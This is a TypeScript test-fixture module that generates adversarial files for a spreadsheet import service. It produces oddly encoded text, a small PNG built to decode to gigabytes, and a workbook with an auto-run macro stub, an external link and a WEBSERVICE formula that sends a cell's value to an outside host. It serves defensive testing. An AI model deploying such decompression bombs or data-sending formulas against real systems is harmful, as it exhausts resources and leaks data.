import { crc32, deflateSync } from 'node:zlib'
import { sampleBook, sheetOf } from '#services/exchange/testing/sample-book.ts'

let codes: ReadonlyMap<string, readonly number[]> | null = null

/** The two bytes that GB 18030 has for each character that it writes in two, found out by having them all read. */
function codesOfTwo(): ReadonlyMap<string, readonly number[]> {
  const pairs: (readonly [number, number])[] = []
  for (let lead = 0x81; lead <= 0xfe; lead += 1)
    for (let trail = 0x40; trail <= 0xfe; trail += 1) if (trail !== 0x7f) pairs.push([lead, trail])
  const read = new TextDecoder('gb18030').decode(Uint8Array.from(pairs.flatMap((pair) => [...pair, 0x0a])))
  return new Map(read.split('\n').map((character, index) => [character, pairs[index] ?? []]))
}

/** A text as programs in China save it where nobody chose an encoding. */
export function gb18030(text: string): Buffer {
  codes ??= codesOfTwo()
  const known = codes
  return Buffer.from(
    [...text].flatMap((character) => (character < '\x80' ? [character.charCodeAt(0)] : (known.get(character) ?? []))),
  )
}

/** A text as a spreadsheet saves "Unicode text". */
export function utf16(text: string): Buffer {
  return Buffer.from(`\u{feff}${text}`, 'utf16le')
}

function chunk(name: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}

/** A black picture of so many pixels each way: few bytes, and gigabytes once it is decoded. */
export function blackPicture(side: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head[8] = 1
  const rows = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))))
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const formula = (place: string, code: string, value: string) =>
  `<c r="${place}" t="str"><f>${code}</f><v>${value}</v></c>`

/** A workbook with heads and rows, and with all that an import leaves alone: merged cells, formulas, a macro, a link. */
export function badBook(heads: readonly string[], row: readonly string[], made: string): Uint8Array {
  const calls = `<row>${formula('A3', 'WEBSERVICE("https://example.com/"&amp;A2)', made)}</row>`
  return sampleBook({
    sheet: sheetOf([heads, row]) + calls,
    after: '<mergeCells count="1"><mergeCell ref="B2:B3"/></mergeCells>',
    extra: {
      'xl/vbaProject.bin': 'Sub Auto_Open()',
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
    },
  })
}
